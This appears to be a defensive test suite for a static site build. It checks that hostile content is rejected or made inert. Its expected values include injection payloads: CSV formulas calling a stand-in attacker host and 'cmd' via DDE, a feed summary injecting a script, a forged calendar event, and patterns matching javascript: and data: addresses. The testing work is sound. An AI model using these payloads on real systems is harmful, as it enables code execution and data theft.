// Hostile content (tests/site/hostile/cases.ts) through the content check and through a real build:
// each case is rejected with its file and field (or line) named, or comes out inert, in the built
// files and in Chromium: no navigation, no dialog, no script, no extra calendar event, no formula,
// no leaked bytes.
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import type { Element, Root, RootContent } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import ICAL from 'ical.js';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkContentTree } from '../../src/pipeline/check-content';
import { serve } from '../../scripts/serve.mjs';
import { formatProblem } from '../../src/lib/content-errors';
import { FIGURE_COLUMNS } from '../../src/lib/figure-data';
import { connect } from '../helpers/browser';
import { listFiles } from '../helpers/dist';
import { rawFeed, parseFeed, wellFormed } from '../helpers/feed';
import { siteBuild } from '../helpers/site-build';
import { EVIL, PWNED, SECRET, writeHostileSite } from './hostile/cases';

describe('the content check on hostile content', () => {
  let root: string;
  let problems: string[];
  beforeAll(() => {
    root = mkdtempSync(join(tmpdir(), 'hostile-check-'));
    writeHostileSite(root, { withRejected: true });
    problems = checkContentTree(root).problems.map(formatProblem);
  });
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  const of = (file: string) => problems.filter((p) => p.startsWith(`${file}: `));

  it('rejects the symlinks in content/ and public/, naming each', () => {
    expect(of('content/figures/linked.md')).toEqual([expect.stringMatching(/is a symbolic link.*commit the real file/)]);
    expect(of('public/leak.txt')).toEqual([expect.stringMatching(/is a symbolic link.*commit the real file/)]);
  });

  it('rejects a right-to-left override in a title and a zero-width space in a name, naming file and field', () => {
    expect(of('content/figures/hostile-bidi.md')).toEqual([
      expect.stringMatching(
        /^content\/figures\/hostile-bidi\.md: title: "title" holds an invisible U\+202E RIGHT-TO-LEFT OVERRIDE at character 9/,
      ),
    ]);
    expect(of('content/speakers/hostile-zero-width.md')).toEqual([
      expect.stringMatching(/^content\/speakers\/hostile-zero-width\.md: name: "name" holds an invisible U\+200B ZERO WIDTH SPACE/),
    ]);
  });

  it('names the line and the construct of each attack in a Markdown body', () => {
    const found = of('content/figures/hostile-body.md').map((p) =>
      p.replace(/^content\/figures\/hostile-body\.md: /, '').replace(/: (remove it|link to).*$/, ''),
    );
    expect(found).toEqual([
      'line 19: a <script> element',
      'line 21: a javascript: address in a Markdown link',
      'line 23: a javascript: address in href= on <a>',
      'line 23: a data: address in href= on <a>',
      'line 25: an event handler attribute (onerror=) on <img>',
      'line 25: an event handler attribute (onload=) on <img>',
      'line 27: a <meta http-equiv="refresh"> (a redirect)',
      'line 29: a <iframe> element',
      'line 31: a <style> element',
      'line 33: a style attribute on <p>',
      'line 35: a <form> element',
      'line 35: a <button> element',
      'line 37: a <base> element',
      'line 39: a <svg> element',
      'line 39: a <script> element',
    ]);
  });

  it('names imports, exports, expressions and unsafe JSX in an MDX body, line by line', () => {
    const found = of('content/background/hostile-mdx.mdx').map((p) => p.replace(/^content\/background\/hostile-mdx\.mdx: /, ''));
    expect(found).toEqual([
      expect.stringMatching(/^line 7: this line starts with "import" or "export", which \.mdx files read as code/),
      expect.stringMatching(/^line 9: this line starts with "import" or "export", which \.mdx files read as code/),
      expect.stringMatching(/^line 13: \{leak\}: in \.mdx files braces \{ \} hold code/),
      expect.stringMatching(/^line 15: \{leak\}: in \.mdx files braces \{ \} hold code/),
      expect.stringMatching(/^line 17: a <script> element/),
      expect.stringMatching(/^line 19: a javascript: address in href= on <a>/),
      expect.stringMatching(/^line 21: an event handler attribute \(onerror=\) on <img>/),
      expect.stringMatching(/^line 23: a <iframe> element/),
      expect.stringMatching(/^line 25: <Figure> has no property "title"/),
    ]);
  });

  it('accepts the cases the build must make inert, and nothing else is reported', () => {
    const files = new Set(problems.map((p) => p.slice(0, p.indexOf(': '))));
    expect([...files].sort()).toEqual([
      'content/background/hostile-mdx.mdx',
      'content/figures/hostile-bidi.md',
      'content/figures/hostile-body.md',
      'content/figures/linked.md',
      'content/speakers/hostile-zero-width.md',
      'public/leak.txt',
    ]);
  });
});

const text = (node: Root | RootContent): string =>
  node.type === 'text' ? node.value : 'children' in node ? node.children.map(text).join('') : '';
const elements = (node: Root | RootContent): Element[] => [
  ...(node.type === 'element' ? [node] : []),
  ...('children' in node ? node.children.flatMap(elements) : []),
];

describe('the hostile build', () => {
  let out: string;
  let pages: { file: string; html: string; tree: Root }[];
  beforeAll(async () => {
    out = await siteBuild('hostile');
    pages = listFiles(out)
      .filter((f) => f.endsWith('.html') && !f.startsWith('pagefind/'))
      .map((file) => {
        const html = readFileSync(join(out, file), 'utf8');
        return { file, html, tree: fromHtml(html) };
      });
  }, 660_000);
  const page = (file: string) => pages.find((p) => p.file === file)!;

  it('built every hostile page', () => {
    for (const f of [
      'figures/hostile-json-ld/index.html',
      'figures/hostile-csv/index.html',
      'figures/hostile-body/index.html',
      'background/hostile-mdx/index.html',
      'programme/hostile-calendar/index.html',
      'conference/index.html',
    ]) {
      expect(page(f), f).toBeDefined();
    }
  });

  it('has, on no page, a redirect, a frame, a form, a base, an inline script, a handler, a style attribute or a javascript: or data: address', () => {
    const found: string[] = [];
    for (const { file, tree } of pages) {
      for (const el of elements(tree)) {
        const props = el.properties;
        if (el.tagName === 'meta' && /refresh/i.test(String(props.httpEquiv ?? ''))) found.push(`${file}: meta refresh`);
        if (
          ['iframe', 'frame', 'object', 'embed', 'base', 'form'].includes(el.tagName) &&
          !(el.tagName === 'form' && String(props.action ?? '').endsWith('/search/'))
        )
          found.push(`${file}: <${el.tagName}>`);
        if (el.tagName === 'script' && !props.src && props.type !== 'application/ld+json') found.push(`${file}: inline script`);
        for (const [name, value] of Object.entries(props)) {
          if (/^on/i.test(name)) found.push(`${file}: ${name} on <${el.tagName}>`);
          if (name === 'style') found.push(`${file}: style on <${el.tagName}>`);
          if (['href', 'src', 'action'].includes(name) && /^\s*(javascript|data|vbscript):/i.test(String(value)))
            found.push(`${file}: ${name}=${String(value)}`);
        }
      }
      const body = elements(tree).find((e) => e.tagName === 'body')!;
      if (elements(body).some((e) => e.tagName === 'style')) found.push(`${file}: <style> in the body`);
    }
    expect(found).toEqual([]);
  });

  it('keeps each JSON-LD block one whole script element, whose JSON reads back to the hostile text', () => {
    const blocks = pages.flatMap(({ file, tree }) =>
      elements(tree)
        .filter((e) => e.tagName === 'script' && e.properties.type === 'application/ld+json')
        .map((e) => ({ file, json: JSON.parse(text(e)) as unknown })),
    );
    expect(blocks.length).toBeGreaterThan(1);
    // The figures' titles and sources are in the downloads the /figures/ Dataset points to, not in
    // its JSON-LD; the conference's Event carries the hostile venue name.
    const event = blocks.find((b) => b.file === 'conference/index.html')!.json as { location: { name: string } };
    expect(event.location.name).toBe('Hofburg <!--<script');
  });

  it('keeps the rest of the conference page after the venue: its footer is there', () => {
    const conference = page('conference/index.html');
    expect(elements(conference.tree).some((e) => e.tagName === 'footer')).toBe(true);
    expect(conference.html.trimEnd().endsWith('</html>')).toBe(true);
  });

  it('keeps the text of the Markdown body and drops every attack in it', () => {
    const body = page('figures/hostile-body/index.html');
    const main = elements(body.tree).find((e) => e.tagName === 'main')!;
    const words = text(main);
    for (const kept of ['Before the attacks.', 'After the attacks.', 'covering paragraph', 'click me', 'encoded link'])
      expect(words).toContain(kept);
  });

  it('runs no code of the MDX body during the build: the secret is in no built file, and <Figure> still renders', () => {
    const leaks = listFiles(out).filter(
      (f) => !/\.(pf_fragment|pf_index|pf_meta|pagefind|wasm|png)$/.test(f) && readFileSync(join(out, f), 'utf8').includes(SECRET),
    );
    expect(leaks).toEqual([]);
    expect(existsSync(join(out, 'leak.txt'))).toBe(false);
    const article = page('background/hostile-mdx/index.html');
    expect(article.html).toContain('Before the attacks');
    const hrefs = elements(article.tree)
      .filter((e) => e.tagName === 'a')
      .map((a) => a.properties.href);
    expect(hrefs).toEqual(expect.arrayContaining(['/figures/forced-labour-2021/', '/figures/modern-slavery-2021/']));
  });

  it('writes no formula into figures.csv: every text cell that starts like one is neutralised, numbers stay numbers', () => {
    const rows = parseCsv(readFileSync(join(out, 'data/figures.csv'), 'utf8'), { bom: true }) as string[][];
    const header = rows[0]!;
    expect(header).toEqual([...FIGURE_COLUMNS]);
    const hostile = Object.fromEntries(header.map((c, i) => [c, rows.find((r) => r[0] === 'hostile-csv')![i]!]));
    expect(hostile.title).toBe(`'=HYPERLINK("${EVIL}?"&A1,"Source")`);
    expect(hostile.value).toBe('-2');
    expect(hostile.display).toBe("'-2+3");
    expect(hostile.scope).toBe("'+cmd|' /C calc'!A0");
    expect(hostile.method).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    const formulas = rows
      .slice(1)
      .flatMap((r) =>
        r
          .map((cell, i) => ({ column: header[i]!, cell }))
          .filter(
            ({ column, cell }) =>
              /^[=+\-@\t\r]/.test(cell) && !(['value', 'year', 'source_year'].includes(column) && /^-?\d+(\.\d+)?$/.test(cell)),
          ),
      );
    expect(formulas).toEqual([]);
  });

  it('writes the hostile corrections entry into the feed as text: one entry, well-formed, no control or bidirectional character', () => {
    const xml = readFileSync(join(out, 'changes.xml'), 'utf8');
    expect(wellFormed(xml)).toBe(true);
    const { entries } = rawFeed(xml);
    expect(parseFeed(xml).items).toHaveLength(entries.length);
    expect(entries.filter((e) => /injected/.test(e.id))).toEqual([]);
    const hostile = entries.filter((e) => e.id.endsWith('#change-2026-11-30-hostile-feed'));
    expect(hostile).toHaveLength(1);
    expect(hostile[0]!.summary).toBe(
      `Feed </summary><entry><id>injected</id><title>Injected</title></entry> ]]> and ]]> again <![CDATA[ x evil <script>window.${PWNED}=1</script>`,
    );
    const why = fromHtml(hostile[0]!.content, { fragment: true });
    expect(text(why)).toBe('Why: </content><entry><id>injected-too</id></entry> ]]> and a bell  here.');
    expect(elements(why).map((e) => e.tagName)).toEqual(['p', 'code']);
    expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/);
  });

  it('shows the hostile corrections entry on /changes/ and on its figure page as text', () => {
    for (const file of ['changes/index.html', 'figures/forced-labour-2021/index.html']) {
      const entry = elements(page(file).tree).find((e) => e.properties.id === 'change-2026-11-30-hostile-feed');
      expect(entry, file).toBeDefined();
      expect(text(entry!)).toContain('</summary><entry><id>injected</id>');
      expect(elements(entry!).filter((e) => ['entry', 'summary', 'script', 'content'].includes(e.tagName))).toEqual([]);
    }
  });

  it('writes exactly one event per session into the calendars, the lone CR included', () => {
    const sessions = listFiles(out).filter((f) => /^programme\/[^/]+\.ics$/.test(f));
    expect(sessions).toContain('programme/hostile-calendar.ics');
    const events = (file: string) =>
      new ICAL.Component(ICAL.parse(readFileSync(join(out, file), 'utf8'))).getAllSubcomponents('vevent').map((v) => new ICAL.Event(v));
    const whole = events('programme.ics');
    expect(whole).toHaveLength(sessions.length);
    expect(whole.map((e) => e.uid)).not.toContain('injected@evil.example');
    const one = events('programme/hostile-calendar.ics');
    expect(one).toHaveLength(1);
    expect(one[0]!.summary).toMatch(/^Opening\nEND:VEVENT\nBEGIN:VEVENT/);
  });

  describe.concurrent('in Chromium', () => {
    let server: { url: string; close: () => Promise<void> };
    let browser: Browser;

    beforeAll(async () => {
      [server, browser] = await Promise.all([serve({ dir: out, base: '/', port: 0 }), connect()]);
    }, 660_000);
    afterAll(async () => {
      await browser?.close();
      await server?.close();
    });

    /** A page in a context of its own, recording dialogs, requests and errors, with policy violations kept on window. */
    async function visit(fn: (v: { page: Page; dialogs: string[]; requests: string[]; errors: string[] }) => Promise<void>): Promise<void> {
      const context = await browser.newContext();
      try {
        await context.addInitScript(() => {
          const seen: string[] = ((window as unknown as { cspViolations: string[] }).cspViolations = []);
          document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.violatedDirective} ${e.blockedURI}`));
        });
        const page = await context.newPage();
        const v = { page, dialogs: [] as string[], requests: [] as string[], errors: [] as string[] };
        page.on('dialog', (d) => {
          v.dialogs.push(d.message());
          void d.dismiss();
        });
        page.on('request', (r) => v.requests.push(r.url()));
        page.on('pageerror', (e) => v.errors.push(e.message));
        await fn(v);
      } finally {
        await context.close();
      }
    }

    it.for([
      'figures/',
      'changes/',
      'figures/hostile-json-ld/',
      'figures/hostile-csv/',
      'figures/hostile-body/',
      'background/hostile-mdx/',
      'conference/',
      'programme/',
      'programme/hostile-calendar/',
    ])('%s stays put: no navigation, no dialog, no script, no request elsewhere, no policy violation', (path, { expect }) =>
      visit(async ({ page, dialogs, requests, errors }) => {
        const url = `${server.url}${path}`;
        await page.goto(url, { waitUntil: 'load' });
        await page.waitForTimeout(1200); // longer than any refresh delay the cases use: proof that none happens
        expect(page.url()).toBe(url);
        expect(await page.evaluate((name) => name in window, PWNED)).toBe(false);
        expect(await page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations)).toEqual([]);
        expect(dialogs).toEqual([]);
        expect(errors).toEqual([]);
        expect(requests.filter((r) => new URL(r).origin !== new URL(server.url).origin)).toEqual([]);
        expect(await page.locator('footer').count()).toBeGreaterThan(0);
      }),
    );

    it('lets the would-be javascript: links do nothing when clicked', ({ expect }) =>
      visit(async ({ page, dialogs }) => {
        for (const path of ['figures/hostile-body/', 'background/hostile-mdx/']) {
          const url = `${server.url}${path}`;
          await page.goto(url);
          for (const label of ['click me', 'encoded link', 'data link']) {
            const link = page.getByText(label, { exact: true });
            if ((await link.count()) === 0) continue;
            await link.first().click();
            await page.waitForTimeout(200);
            expect(page.url()).toBe(url);
          }
          expect(await page.evaluate((name) => name in window, PWNED)).toBe(false);
          expect(dialogs).toEqual([]);
        }
      }));

    it('shows a search query in the page title without its bidirectional controls', ({ expect }) =>
      visit(async ({ page }) => {
        await page.goto(`${server.url}search/?q=${encodeURIComponent('\u202E27.6 million\u202C')}`);
        await page.waitForFunction(() => document.title.includes('27.6 million'));
        expect(await page.title()).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B-\u200D\u2060\uFEFF]/);
      }));

    it('takes a malformed #%E0%A4%A on the programme without an error, and still filters', ({ expect }) =>
      visit(async ({ page, errors }) => {
        await page.goto(`${server.url}programme/#%E0%A4%A`);
        await page.locator('[data-filter-form]').waitFor({ state: 'visible' });
        expect(errors).toEqual([]);
      }));
  });
});
